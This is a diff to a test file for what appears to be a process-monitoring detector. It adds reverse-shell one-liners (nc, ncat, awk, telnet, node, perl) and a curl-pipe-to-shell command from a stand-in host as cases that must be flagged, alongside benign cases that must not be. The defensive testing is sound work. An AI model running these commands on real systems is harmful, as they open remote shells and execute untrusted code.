@@ -87,6 +87,13 @@ describe('command lines', () => {
     ['python3 -c import socket,pty;s=socket.socket();pty.spawn("sh")'],
     ['./m -o stratum+tcp://pool.example:3333'],
     ['./m --donate-level 1'],
+    ['curl -s "http://x.example/?a=1&b=2" | sh'],
+    ['/bin/busybox nc 10.0.0.1 4444 -e /bin/sh'],
+    ['ncat --ssl 10.0.0.1 4444 --exec=/bin/bash'],
+    ['awk BEGIN{s="/inet/tcp/0/10.0.0.1/4444";while(1){s|&getline c}}'],
+    ['telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445'],
+    ['node -e require("child_process").spawn("sh");require("net").connect(4444)'],
+    ['perl -e \'use Socket;socket(S,2,1,6);exec("/bin/sh -i");\''],
   ])('%s', async (line) => {
     const found = await findings({ argv: ['sh', '-c', line], exe: '/bin/sh', comm: 'sh' });
     expect(found).toMatchObject([{ rule: 'command-line', severity: 'high' }]);
@@ -99,6 +106,10 @@ describe('command lines', () => {
     ['python3 -c print(1)'],
     ['rsync -e ssh a b'],
     ['sh -c exec nginx'],
+    ['java -cp /opt/nc/lib -server -Dname=cash nc.Main --exec now'],
+    ['nc -zv host 80'],
+    ['ruby /usr/bin/puma -e production -b unix:///tmp/sockets/app.sock'],
+    ['node -e console.log("net")'],
   ])('%s is none', async (line) => {
     expect(await rules({ argv: ['sh', '-c', line], exe: '/bin/sh', comm: 'sh' })).toEqual([]);
   });
@@ -114,6 +125,7 @@ describe('names', () => {
     ['kworker/0:1', '[kworker/0:1]', '/opt/x', ['kernel-thread-mask']],
     ['prog', '[kthreadd]', '/usr/bin/prog', ['kernel-thread-mask']],
     ['upd', '/usr/sbin/sshd', '/opt/tool', ['false-name']],
+    ['celery', '[celery beat] -A app', '/usr/bin/celery', []],
     // Titles, versions, multi-call programs, login shells, scripts and threads' names are innocent.
     ['nginx', 'nginx: worker process', '/usr/sbin/nginx', []],
     ['postgres', 'postgres: writer', '/usr/lib/postgresql/15/bin/postgres', []],
